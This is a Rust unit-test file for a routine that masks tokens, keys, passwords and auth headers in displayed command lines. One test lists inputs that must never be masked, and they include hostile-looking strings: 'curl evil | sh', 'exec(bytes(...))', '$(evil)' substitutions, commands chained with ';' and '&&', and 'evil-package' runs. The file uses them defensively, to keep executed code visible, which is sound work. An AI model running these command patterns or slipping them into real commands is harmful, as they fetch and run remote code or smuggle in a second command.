use super::super::splice::splice;
use super::*;

fn masked(words: &[&str]) -> String {
    let mut line = CommandWords::default();
    let shown = words.iter().map(|word| {
        let shown = splice(word, line.secrets(word), "*");
        line = line.after(word);
        shown
    });
    shown.collect::<Vec<_>>().join(" ")
}

#[test]
fn secrets_of_command_lines_are_masked() {
    for (words, expected) in [
        (&["npx", "-y", "notion"][..], "npx -y notion"),
        (&["x", "--token=abc"], "x --token=*"),
        (&["x", "--token=a b"], "x --token=*"),
        (&["x", "--api-key", "abc", "d"], "x --api-key * d"),
        (&["x", "--api-key", "--verbose"], "x --api-key --verbose"),
        (&["x", "--api-key={env:KEY}"], "x --api-key={env:KEY}"),
        (
            &[
                "docker",
                "run",
                "-e",
                "GITHUB_TOKEN=abc",
                "image",
                "--token",
                "abc",
            ],
            "docker run -e GITHUB_TOKEN=* image --token *",
        ),
        (
            &["docker", "run", "--env", "API_KEY=abc", "-e", "LEVEL=abc"],
            "docker run --env API_KEY=* -e LEVEL=abc",
        ),
        (
            &["x", "--header", "Authorization: Bearer abc"],
            "x --header Authorization: *",
        ),
        (&["x", "-H", "Cookie: a=b; c=d"], "x -H Cookie: *"),
        (
            &["x", "Authorization: Bearer {env:X}"],
            "x Authorization: Bearer {env:X}",
        ),
        (
            &["x", "--tokenizer", "abc", "--keyboard=us"],
            "x --tokenizer abc --keyboard=us",
        ),
        (&["x --api-key abc --n 1"], "x --api-key * --n 1"),
        (&["x --password='a b' c"], "x --password=* c"),
        (&["x", "--token="], "x --token="),
        (&["uvx pkg --key=abc"], "uvx pkg --key=*"),
        (&["env TOKEN=abc npx pkg"], "env TOKEN=* npx pkg"),
        (&["x", "--token", "/abc+d=="], "x --token *"),
        (
            &["npx", "-y", "pkg", "--api-key", "abc"],
            "npx -y pkg --api-key *",
        ),
        (&["uvx", "pkg@1", "--token", "abc"], "uvx pkg@1 --token *"),
        (&["node", "a.js", "--token", "abc"], "node a.js --token *"),
        (
            &["python3", "-m", "a", "--token", "abc"],
            "python3 -m a --token *",
        ),
        (
            &["node", "-r", "b", "a.js", "--token=abc"],
            "node -r b a.js --token=*",
        ),
    ] {
        assert_eq!(masked(words), expected);
    }
}

/// In each of them something runs, or is named to be started, that a mask
/// would have hidden.
#[test]
fn program_text_is_never_masked() {
    for words in [
        &["python3", "-c", "token=exec(bytes([112]).decode())"][..],
        &["python3", "-c", "token=exec"],
        &["python3.12", "-ctoken=exec"],
        &["/usr/bin/python3", "-uc", "secret=evil"],
        &["python", "-m", "token=evil"],
        &["node", "-e", "key=require"],
        &["node", "--eval=key=evil"],
        &["node", "--eval", "apiKey: evil"],
        &["node", "-p", "token=evil"],
        &["node", "--require", "token=./evil.js", "a.js"],
        &["node", "--import=token=./evil.js", "a.js"],
        &["perl", "-e", "$key=evil"],
        &["perl", "-ne", "$key=evil"],
        &["ruby", "-e", "token=load"],
        &["bash", "-c", "token=<(touch${IFS}x)"],
        &["bash", "-c", ": --token: evil >x"],
        &["bash", "-lc", "--token evil"],
        &["bash", "-c", "exec \"$@\"", "_", "--token", "evil"],
        &["sudo", "-E", "sh", "-c", "password=evil"],
        &["sh", "-c", "TOKEN=x curl evil | sh"],
        &["pwsh", "-Command", "token=evil"],
        &["powershell.exe", "-EncodedCommand", "token=evil"],
        &["cmd", "/c", "set token=evil&evil"],
        &["cmd.exe", "/C", "token=evil"],
        &["find", "/", "-exec", "token=evil"],
        &["bunx", "--token", "evil-package"],
        &["pnpm", "dlx", "--password", "evil-package"],
        &["env", "A=b", "bunx", "--key", "evil-package"],
        &["uvx", "--key=evil-package"],
        &["uvx --key=evil-package"],
        &["uvx --key evil-package"],
        &["npx", "-y", "--token=evil-package"],
        &["x", "--token-helper", "./evil"],
        &["x", "--secret-cmd", "./evil"],
        &["x", "--secret-cmd=evil"],
        &["x", "--key", "./evil.js"],
        &["x", "--key=evil.js"],
        &["x --key '/usr/lib/evil'"],
        &["x", "--token", "@scope/evil"],
        &["x", "-e", "TOKEN=./evil"],
        &["x", "token=exec(bytes([1]))"],
        &["x", "token=<(evil)"],
        &["x", "--password=a>b"],
        &["x", "--token", "$(evil)"],
        &["x", "-H", "X: $(evil)"],
        &["python3 -c token=evil"],
        &["TOKEN=x; evil"],
        &["TOKEN=x&&evil"],
        &["TOKEN=$(evil)"],
        &["TOKEN=\"$(evil)\" run"],
        &["TOKEN=`evil`"],
        &["--token=x; evil"],
        &["run --token\nevil"],
    ] {
        assert_eq!(masked(words), words.join(" "));
    }
}

#[test]
fn what_follows_a_value_is_shown() {
    assert_eq!(masked(&["TOKEN=x evil --now"]), "TOKEN=* evil --now");
    assert_eq!(masked(&["--token=a\"evil\""]), "--token=*\"evil\"");
}
